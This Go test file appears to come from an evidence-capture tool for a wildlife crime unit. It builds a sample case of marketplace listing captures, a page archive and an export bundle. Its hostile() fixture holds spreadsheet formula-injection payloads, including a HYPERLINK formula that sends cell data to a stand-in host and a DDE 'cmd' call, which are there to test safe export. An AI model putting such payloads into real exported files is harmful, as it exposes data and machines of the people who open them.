package handover

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"pugmark/capture/listing"
	"pugmark/capture/warc"
	"pugmark/evidence"
	"pugmark/evidence/bundle"
	"pugmark/evidence/canon"
	"pugmark/review"
)

// samplePath is a bundle that never changes, so that what is made of it doesn't. See
// TestMakeSample.
const samplePath = "testdata/op-7.pugmark.zip"

var makeSample = flag.Bool("sample", false, "make "+samplePath+" anew; the examples in the documents change with it")

// TestMakeSample makes a vault as the bundle of the other tests is from, and with
// -sample that bundle.
func TestMakeSample(t *testing.T) {
	v := newVault(t)
	path := filepath.Join(t.TempDir(), "op-7.pugmark.zip")
	if *makeSample {
		path = samplePath
	}
	_, err := bundle.Export(t.Context(), v, bundle.Options{Case: "OP-7", Path: path}, nil)
	check(t, err)
	wantValidCase(t, v)
}

func check(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// newVault makes an unlocked vault with a case of three captures: of a listing, with
// what people added; of a page whose seller attacks who opens the table; and of one
// that says nothing.
func newVault(t testing.TB) *evidence.Vault {
	ctx := context.Background()
	v, err := evidence.Create(ctx, filepath.Join(t.TempDir(), "vault"), evidence.CreateOptions{
		Name: "Unit 7", Operator: "A. Rao", Role: "Analyst", Organisation: "Wildlife Crime Unit", Passphrase: "correct horse",
	})
	check(t, err)
	t.Cleanup(func() {
		check(t, v.Close())
		unlockFolders(t, v.Dir())
	})
	check(t, v.NewCase(ctx, evidence.Case{Ref: "OP-7", Title: "Ivory bangles 象牙", Authority: "s. 12 of the Act", Purpose: "inquiry"}))
	full := seal(t, v, "https://market.example/l/7", evidence.Complete, listed(), archived(t))
	seal(t, v, "https://market.example/l/8", evidence.Partial, hostile(), nil)
	seal(t, v, "https://market.example/", evidence.Complete, nil, nil)
	for _, a := range []evidence.Annotation{
		{Kind: evidence.Tag, Text: "ivory"},
		{Kind: evidence.Note, Text: "Same seller as in OP-3"},
		{Kind: evidence.Fact, Name: string(listing.PriceFact), Text: "4000 CNY", Was: "3680.00 CNY"},
	} {
		_, err := v.Annotate(ctx, full, a)
		check(t, err)
	}
	gone, err := v.Annotate(ctx, full, evidence.Annotation{Kind: evidence.Note, Text: "a slip"})
	check(t, err)
	check(t, v.Withdraw(ctx, full, gone.ID, "of another case"))
	return v
}

// unlockFolders lets the test's folder be removed.
func unlockFolders(t testing.TB, dir string) {
	check(t, filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.IsDir() {
			return err
		}
		return os.Chmod(path, 0o700)
	}))
}

// seal makes a capture.
func seal(t testing.TB, v *evidence.Vault, address string, verdict evidence.Verdict, l *listing.Listing, archive []byte) evidence.Capture {
	t.Helper()
	ctx := context.Background()
	s, err := v.Stage(ctx, evidence.StageRequest{Case: "OP-7", Reason: "tip 4", Requested: address})
	check(t, err)
	write := func(path string, kind evidence.Kind, mediaType string, content []byte) {
		w, err := s.Create(path, kind, mediaType)
		check(t, err)
		_, err = w.Write(content)
		check(t, err)
		check(t, w.Close())
	}
	write("text.txt", evidence.KindText, "text/plain", []byte("A page"))
	if l != nil {
		b, err := l.Marshal()
		check(t, err)
		write("listing.json", evidence.KindListing, "application/json", b)
	}
	if archive != nil {
		write("archive.wacz", evidence.KindArchive, "application/wacz", archive)
	}
	a := acquired(address, verdict)
	sealed, err := s.Seal(ctx, a)
	check(t, err)
	c, err := v.Capture(ctx, sealed.Capture.ID.String())
	check(t, err)
	return c
}

var started = time.Date(2026, 11, 24, 8, 0, 0, 5_000_000, time.UTC)

func acquired(address string, verdict evidence.Verdict) *evidence.Acquisition {
	loaded := started.Add(1200 * time.Millisecond)
	a := &evidence.Acquisition{
		Target: evidence.Target{
			Requested: address, Final: address, Title: "Bangle · Market", Status: 200, Protocol: "h2", Remote: "192.0.2.7:443",
			Redirects: []evidence.Redirect{{From: "http://market.example/", To: address, Status: 301}},
		},
		TLS: &evidence.TLS{
			Protocol: "TLS 1.3", Cipher: "AES_128_GCM", Subject: "market.example", Issuer: "Example CA", Valid: true,
			NotBefore: started.AddDate(0, -1, 0), NotAfter: started.AddDate(0, 2, 0), Chain: []evidence.Digest{canon.Sum([]byte("leaf"))},
		},
		Time: evidence.Time{Started: started, Finished: started.Add(9 * time.Second), Loaded: &loaded, Duration: 9000, Zone: "+08:00"},
		Environment: evidence.Environment{
			Tool: evidence.Tool, OS: "linux/amd64", Browser: "Chromium 156.0.8078.73", Flags: []string{"--headless"}, Sandbox: true,
			UserAgent: "Mozilla/5.0", Viewport: evidence.Size{Width: 1280, Height: 800}, PixelRatio: 1, Locale: "en-US",
			BrowserHash: canon.Sum([]byte("chromium")),
		},
		Verdict: verdict,
	}
	if verdict != evidence.Complete {
		a.Problems = []evidence.Problem{{Code: "height_unstable", Detail: "the page grew"}, {Code: "body_missing", URL: "https://market.example/1.jpg"}, {Code: "body_missing"}}
	}
	return a
}

// listed is what the page of a listing says.
func listed() *listing.Listing {
	one := func(value string) listing.Fact {
		return listing.Fact{Value: value, Candidates: []listing.Candidate{{Provenance: listing.Provenance{Source: listing.FromJSONLD, Property: "/name"}, Value: value, Raw: value}}}
	}
	price := one("3680.00 CNY")
	price.Candidates[0].Raw = "￥3,680.00"
	price.Candidates[0].Price = &listing.Price{Kind: listing.Exact, Amount: "3680.00", Currency: "CNY"}
	phone := one("")
	phone.Values = []string{"+8613800000000"}
	return &listing.Listing{
		Format: listing.Format, Version: listing.Version, Address: "https://market.example/l/7", Host: "market.example",
		Facts: map[listing.Name]listing.Fact{
			listing.Title: one("Plain bangle, “old stock” 象牙"), listing.PriceFact: price, listing.Currency: one("CNY"),
			listing.Platform: one("Market"), listing.AdvertID: one("7"), listing.SellerName: one("Old Lantern"), listing.SellerID: one("u-20931"),
			listing.Location: one("Port Verrin"), listing.Posted: one("2026-10-03"), listing.Phone: phone,
		},
		Photographs: []listing.Photograph{
			{Address: "https://img.example/1.jpg", SHA256: canon.Sum([]byte("picture")), Bytes: 7, Format: "jpeg", Width: 640, Height: 480, Hash: "p:c3d2a59687b4f1e0"},
			{Address: "https://img.example/2.jpg"},
		},
	}
}

// hostile is what the page of a seller says who attacks.
func hostile() *listing.Listing {
	l := listed()
	for name, value := range map[listing.Name]string{
		listing.Title: `=HYPERLINK("http://outside.test?"&A1,"open")`, listing.SellerName: "+cmd|' /C calc'!A0", listing.Location: "\t@SUM(1)",
		listing.SellerID: "'quoted", listing.AdvertID: "-7\r\nnext,line",
	} {
		l.Facts[name] = listing.Fact{Value: value, Candidates: []listing.Candidate{{Provenance: listing.Provenance{Source: listing.FromDOM}, Value: value, Raw: value}}}
	}
	return l
}

// archived is the page archive of a listing.
func archived(t testing.TB) []byte {
	var b bytes.Buffer
	a, err := warc.Create(&b, warc.Options{Software: evidence.Tool, Created: started})
	check(t, err)
	h2 := warc.Conn{Remote: "192.0.2.7:443", Protocol: "h2", TLS: "TLS 1.3", Cipher: "TLS_AES_128_GCM_SHA256"}
	get := func(path string, after time.Duration) warc.Request {
		return warc.Request{URL: "https://market.example" + path, Method: "GET", Started: started.Add(after), Conn: h2, Resource: "Document",
			Header: []warc.Field{{Name: "accept", Value: "*/*"}, {Name: "cookie", Value: "session=secret1; b=2"}, {Name: "Authorization", Value: "Bearer secret2"}}}
	}
	timing := map[string]any{"connection": 7, "encoded_bytes": 300, "timing": map[string]float64{
		"dnsStart": 1, "dnsEnd": 3, "connectStart": 3, "connectEnd": 9, "sslStart": 5, "sslEnd": 9, "sendStart": 9, "sendEnd": 10, "receiveHeadersEnd": 40.5,
	}}
	respond := func(status int, mediaType, body string, more ...warc.Field) warc.Response {
		return warc.Response{Status: status, Header: append(more, warc.Field{Name: "content-type", Value: mediaType}), Body: strings.NewReader(body)}
	}
	// Answered before it, but sent after the document.
	check(t, a.Write(get("/1.jpg", time.Second), respond(200, "image/jpeg", "\xff\xd8picture"), timing))
	check(t, a.Write(get("/", 0), respond(301, "text/html", "", warc.Field{Name: "location", Value: "/l/7"}), timing))
	check(t, a.Write(get("/l/7?a=1&b=%E8%B1%A1", 10*time.Millisecond), respond(200, "text/html", "<title>象牙</title>",
		warc.Field{Name: "set-cookie", Value: "session=secret3; Path=/; HttpOnly; Secure"}, warc.Field{Name: "content-encoding", Value: "br"}, warc.Field{Name: "content-length", Value: "9"}), timing))
	post := get("/log", 2*time.Second)
	post.Method, post.Body = "POST", strings.NewReader(`{"seen":7}`)
	post.Header = append(post.Header, warc.Field{Name: "content-type", Value: "application/json"})
	check(t, a.Write(post, warc.Response{Status: 204}, nil))
	plain := get("/old", 4*time.Second)
	plain.URL, plain.Conn = "http://market.example/old", warc.Conn{Remote: "[2001:db8::7]:80", Protocol: "http/1.1"}
	check(t, a.Write(plain, respond(200, "text/plain", "caf\xe9"), map[string]any{"header_text": "HTTP/1.1 200 OK\r\nSet-Cookie: c=secret4\r\nX-Name: caf\xe9\r\n\r\n"}))
	check(t, a.Failed(get("/blocked.js", 3*time.Second), warc.Failure{Reason: "net::ERR_BLOCKED_BY_CLIENT", Blocked: true}))
	check(t, a.Resource("wss://market.example/chat", "application/jsonl", started, strings.NewReader("{}\n")))
	_, err = a.Close(warc.Page{URL: "https://market.example/l/7", Time: started})
	check(t, err)
	return b.Bytes()
}

// library opens a bundle to review.
func library(t testing.TB, path string) (*review.Library, *review.Case) {
	t.Helper()
	r, err := bundle.OpenReader(context.Background(), path)
	check(t, err)
	l := review.OfBundle(r, path)
	t.Cleanup(func() { check(t, l.Close()) })
	c, err := l.Case(context.Background(), "OP-7")
	check(t, err)
	return l, c
}

func sampleCase(t testing.TB) *review.Case {
	t.Helper()
	_, c := library(t, samplePath)
	return c
}

// written returns what is made of a case.
func written(t testing.TB, q Request) (string, *Result) {
	t.Helper()
	var b strings.Builder
	r, err := Write(context.Background(), &b, q, nil)
	check(t, err)
	return b.String(), r
}

// toFile writes to a file what a judge reads.
func toFile(t testing.TB, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	f, err := os.Create(path)
	check(t, err)
	_, err = io.WriteString(f, content)
	check(t, err)
	check(t, f.Close())
	return path
}

func wantPart(t testing.TB, text string, parts ...string) {
	t.Helper()
	for _, part := range parts {
		if !strings.Contains(text, part) {
			t.Errorf("got no %s in\n%s", part, text[:min(len(text), 4000)])
		}
	}
}

// wantValidCase checks what is made of a vault's case.
func wantValidCase(t *testing.T, v *evidence.Vault) {
	t.Helper()
	c, err := review.OfVault(v).Case(t.Context(), "OP-7")
	check(t, err)
	got, r := written(t, Request{Format: CaseUCO, Case: c})
	if r.Captures != 3 || len(r.Unread) > 0 {
		t.Errorf("got %+v", r)
	}
	wantPart(t, got, fmt.Sprintf("%q", "OP-7/3"))
}
